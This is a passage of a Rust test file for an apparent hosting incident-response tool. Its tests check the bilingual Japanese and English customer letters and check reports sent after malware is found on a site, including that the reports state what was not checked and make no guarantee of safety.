        前回 問題は見つからず、今回 1件 同じ入口か: まだ分かっておりません
        前回の作業が足りなかったとは限りません。",
    );
    let en = render(&relapse(Language::En));
    assert_eq!(en.subject, "Problem found again; stopped: 1 site HK-20260410-5T24");
    holds(
        &en,
        "On Fri 10 April 2026 at 02:31 JST (UTC+9) we detected a malicious program.
        HK-20260321-7K30 was released on Mon 23 March 2026 at 09:10 JST (UTC+9), so this has a new number.
        Compared with the check made then:
        then nothing found; now 1 Same way in: we do not know
        This need not mean that your repair was incomplete.",
    );
}

#[test]
fn what_is_not_true_is_left_out() {
    let has = |content: &LetterContent, text: &str| render(content).text.replace('\n', "").contains(text);
    let mut content = restricted(Language::Ja);
    assert!(has(&content, "申し訳ございません") && !has(&content, "無料"));
    content.warned = true;
    assert!(!has(&content, "申し訳ございません"), "no apology for a missing warning when there was one");
    content.free = true;
    assert!(has(&content, "無料"));
    let bare = no_sites(Language::Ja);
    for text in ["サイトの状態", "規約", "ご不満", "FTP、パネル", "夜間や休日", "ログインの記録"]
    {
        assert!(!has(&bare, text), "{text}");
    }
}

#[test]
fn earlier_work_is_called_done_only_when_all_of_it_was_seen() {
    let text = |facts: Vec<Checked>| {
        let mut content = answer(Language::En);
        let earlier = content.earlier.as_mut().expect("the example has one");
        earlier.check = Some((earlier.opened, facts));
        words_of(&render(&content).text)
    };
    assert!(text(vec![clean(Check::Mail, 1)]).contains("AllweaskedofyouinFebruaryisdone."));
    let on_word = text(honest_check());
    assert!(on_word.contains("ThecheckmadeinFebruaryfoundnothingleft."), "{on_word}");
    assert!(on_word.contains("3done,2onyourword,1notchecked"), "{on_word}");
    let left = text(vec![checked(Check::Mail, Verdict::Found { place: "x".to_owned() })]);
    assert!(!left.contains("isdone.") && !left.contains("nothingleft"), "{left}");
}

#[test]
fn a_letter_that_one_of_two_addresses_took_says_so() {
    let mut content = other_question(Language::Ja);
    content.sent_notices[0].delivery = Delivery::Accepted { addresses: 1 };
    assert!(words_of(&render(&content).text).contains("1件を相手サーバーが受領(開封は不明)"));
}

#[test]
fn every_letter_arrives_as_it_was_written() {
    let sink = Sink::open().unwrap();
    let relay = Relay {
        host: sink.address().ip().to_string(),
        port: sink.address().port(),
        name: "例ホスティング".to_owned(),
        from: "desk@host.example".to_owned(),
    };
    let mut desk = Desk::new(relay, None);
    for (at, (name, content, letter)) in all().enumerate() {
        let order = ToDesk::Send {
            intent: IntentId(at as u64),
            to: vec!["taro@example.jp".to_owned()],
            message_id: format!("{at}@host.example"),
            references: vec![],
            subject: letter.subject.clone(),
            text: letter.text.clone(),
        };
        let outcome = handle(&mut desk, order);
        assert_eq!(outcome.seen, Seen::Told(Delivery::Accepted { addresses: 1 }), "{name}");
        let mail = sink.mails().pop().expect("just accepted");
        assert_eq!(mail.header("Subject"), Some(letter.subject), "{name}");
        assert_eq!(mail.text(), letter.text, "{name}");
        assert_eq!(mail.header("X-Hikeshi-Incident"), Some(content.number.to_string()), "{name}");
    }
}

fn certificate_of(language: Language) -> String {
    let report = crate::certificate::Certificate {
        number: number("HK-20260321-7K30"),
        language,
        zone: "Asia/Tokyo".to_owned(),
        host: crate::words::pick(language, "例ホスティング", "Example Hosting").to_owned(),
        checked: at("2026-03-22T20:01:00+09:00"),
        facts: honest_check(),
        lifted: Some(at("2026-03-23T09:10:00+09:00")),
        sites: vec!["blog.example.jp".parse().expect("a domain"), "shop.example.jp".parse().expect("a domain")],
        watch_until: Some(at("2026-05-04T09:10:00+09:00")),
    };
    crate::certificate::text(&report)
}

#[test]
fn a_check_report_says_what_was_not_checked() {
    let check = |language, expected: Expect| expected.assert_eq(&certificate_of(language));
    check(
        Language::Ja,
        expect_test::expect![[r#"
        点検報告書 HK-20260321-7K30
        例ホスティング
        点検: 2026年3月22日(日)20:01(日本時間)
        解除: 2026年3月23日(月)09:10(日本時間)
        サイト: blog.example.jp、shop.example.jp

        済: 動いているプログラム (12件を点検)
        済: 停止したプログラムのファイル (2件を点検)
        済: メール送信 (該当0件)
        ご連絡による: パスワードと鍵 (自動では点検できません)
        ご連絡による: 侵入の入口 (自動では点検できません)
        点検できず: サイトのファイル全体 (ファイルの検査機能がまだないため)

        これは問題が見つからなかった記録で、安全の保証ではございません。
        2026年5月4日(月)まで42日間、毎日見守ります。
    "#]],
    );
    check(
        Language::En,
        expect_test::expect![[r#"
        Check report HK-20260321-7K30
        Example Hosting
        Checked: Sun 22 March 2026 at 20:01 JST (UTC+9)
        Released: Mon 23 March 2026 at 09:10 JST (UTC+9)
        Sites: blog.example.jp, shop.example.jp

        done: running programs (12 checked)
        done: files of the stopped programs (2 checked)
        done: outgoing mail (there were none)
        on your word: passwords and keys (no machine can check it)
        on your word: way in (no machine can check it)
        not checked: all files of the sites (no file scanner yet)

        It records that we found no problem; it is no guarantee.
        We watch daily for 42 days, until Mon 4 May 2026.
    "#]],
    );
}
